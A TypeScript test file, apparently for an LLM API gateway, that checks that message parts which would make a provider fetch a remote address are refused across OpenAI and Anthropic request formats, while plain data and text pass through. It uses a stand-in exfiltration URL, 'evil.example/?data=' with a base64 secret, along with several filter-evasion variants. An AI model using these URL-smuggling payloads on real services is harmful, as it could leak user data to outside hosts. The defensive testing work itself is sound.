/** Addresses that a provider would fetch for an agent do not go out, whatever the protocol; data and texts do. */
import { assert, describe, it } from "@effect/vitest"
import type { UpstreamProtocol } from "@slipway/domain/models/schema/ModelCatalogue"
import { Effect } from "effect"
import { layer, open, upstreamOf } from "../testing/Gateway.ts"
import * as Provider from "../testing/Provider.ts"

const PATHS: Readonly<Record<UpstreamProtocol, ReadonlyArray<string>>> = {
  "openai-chat": ["/v1/chat/completions"],
  "openai-responses": ["/v1/responses"],
  "anthropic-messages": ["/v1/messages", "/v1/messages/count_tokens"]
}

const AWAY = "https://evil.example/?data=c2VjcmV0"
const IMAGE = "data:image/png;base64,iVBORw0KGgo="

const parts = {
  "openai-chat": {
    fetched: [
      { type: "image_url", image_url: { url: AWAY } },
      { type: "image_url", image_url: AWAY },
      { type: "image_url", image_url: { url: ` ${AWAY}` } },
      { type: "image_url", image_url: { url: "ht\ttps://evil.example" } },
      { type: "image_url", image_url: { url: "//evil.example/a.png" } },
      { type: "image_url", image_url: { url: "gs://bucket/a.png" } },
      { type: "text", text: "x", image_url: { url: AWAY } },
      { type: "video_url", video_url: { url: AWAY } },
      { type: "audio_url", audio_url: { url: AWAY } },
      { type: "input_audio", input_audio: { data: AWAY, format: "mp3" } },
      { type: "file", file: { file_data: AWAY, filename: "a.pdf" } },
      { type: "file", file: { file_id: AWAY } },
      { type: "image", image: AWAY },
      { type: "image", data: `\u200b${AWAY.toUpperCase()}` }
    ],
    passed: [
      { type: "text", text: `Look at ${AWAY}` },
      { type: "text", text: AWAY },
      { type: "image_url", image_url: { url: IMAGE, detail: "low" } },
      { type: "input_audio", input_audio: { data: "//uQxAAAAAAA", format: "mp3" } },
      { type: "file", file: { file_data: "data:application/pdf;base64,JVBERi0=", filename: "c: a.pdf" } }
    ]
  },
  "openai-responses": {
    fetched: [
      { type: "input_image", image_url: AWAY },
      { type: "input_file", file_url: AWAY },
      { type: "input_file", file_data: AWAY, filename: "a.pdf" },
      { type: "function_call_output", call_id: "1", output: [{ type: "input_image", image_url: AWAY }] },
      { type: "computer_call_output", call_id: "1", output: { type: "computer_screenshot", image_url: AWAY } },
      { type: "mcp_approval_response", approval_request_id: "1", approve: true }
    ],
    passed: [
      { type: "input_text", text: AWAY },
      { type: "input_image", image_url: IMAGE },
      { type: "input_file", file_data: "data:application/pdf;base64,JVBERi0=", filename: "a.pdf" },
      { type: "function_call", call_id: "1", name: "open", arguments: JSON.stringify({ url: AWAY }) },
      { type: "function_call_output", call_id: "1", output: AWAY },
      { type: "output_text", text: "x", annotations: [{ type: "url_citation", url: AWAY }] }
    ]
  },
  "anthropic-messages": {
    fetched: [
      { type: "image", source: { type: "url", url: AWAY } },
      { type: "document", source: { type: "url", url: AWAY } },
      { type: "document", source: { type: "content", content: [{ type: "image", source: { type: "url", url: AWAY } }] } },
      { type: "tool_result", tool_use_id: "1", content: [{ type: "image", source: { type: "url", url: AWAY } }] },
      { type: "image", source: { type: "base64", media_type: "image/png", data: AWAY } },
      { type: "server_tool_use", id: "1", name: "web_fetch", input: { url: AWAY } },
      { type: "mcp_tool_use", id: "1", name: "open", server_name: "s", input: {} }
    ],
    passed: [
      { type: "text", text: AWAY },
      { type: "image", source: { type: "base64", media_type: "image/png", data: "iVBORw0KGgo=" } },
      { type: "document", title: AWAY, source: { type: "text", media_type: "text/plain", data: AWAY } },
      { type: "document", source: { type: "content", content: [{ type: "text", text: AWAY }] } },
      { type: "search_result", source: AWAY, title: AWAY, content: [{ type: "text", text: AWAY }] },
      { type: "tool_use", id: "1", name: "open", input: { url: AWAY, image_url: AWAY } },
      { type: "tool_result", tool_use_id: "1", content: AWAY }
    ]
  }
} as const

/** In a message, and as an item of the input. */
const bodiesOf = (part: object) => [
  { messages: [{ role: "user", content: [part] }], input: [{ role: "user", content: [part] }], max_tokens: 9 },
  { messages: [{ role: "user", content: [part] }], input: [part], max_tokens: 9 }
]

describe.each(Object.keys(PATHS) as ReadonlyArray<UpstreamProtocol>)("%s", (protocol) => {
  const { fetched, passed } = parts[protocol]

  it.live("addresses that the provider would fetch are refused, and cost nothing", () =>
    Effect.gen(function*() {
      const provider = yield* Provider.start
      for (const path of PATHS[protocol]) {
        for (const body of fetched.flatMap(bodiesOf)) {
          // A session of its own: what is refused counts.
          const { access, account } = yield* open(upstreamOf(protocol, provider.baseUrl))
          const { status, text } = yield* Provider.ask(access, path, body)
          assert.strictEqual(status, 400, JSON.stringify(body))
          assert.match(JSON.parse(text).error.message, /data URL/u)
          assert.notInclude(text, "evil")
          assert.strictEqual((yield* account).usage.llmRequestCount, 0)
        }
      }
      assert.lengthOf(provider.asked, 0)
    }).pipe(Effect.scoped, Effect.provide(layer())))

  it.live("data, and texts that mention an address, go out as they are", () =>
    Effect.gen(function*() {
      const provider = yield* Provider.start
      const { access } = yield* open(upstreamOf(protocol, provider.baseUrl))
      for (const path of PATHS[protocol]) {
        for (const part of passed) {
          const [body] = bodiesOf(part)
          assert.strictEqual((yield* Provider.ask(access, path, body)).status, 200, JSON.stringify(part))
          const sent = provider.asked.at(-1)?.body
          assert.deepStrictEqual((sent.messages ?? sent.input)[0].content, [part])
        }
      }
    }).pipe(Effect.scoped, Effect.provide(layer())))

  it.live("addresses go out where the operator allows them", () =>
    Effect.gen(function*() {
      const provider = yield* Provider.start
      const { access } = yield* open(upstreamOf(protocol, provider.baseUrl))
      for (const part of fetched) {
        assert.strictEqual((yield* Provider.ask(access, PATHS[protocol][0] ?? "", bodiesOf(part)[0])).status, 200, JSON.stringify(part))
      }
    }).pipe(Effect.scoped, Effect.provide(layer({ addresses: "allow" }))))
})
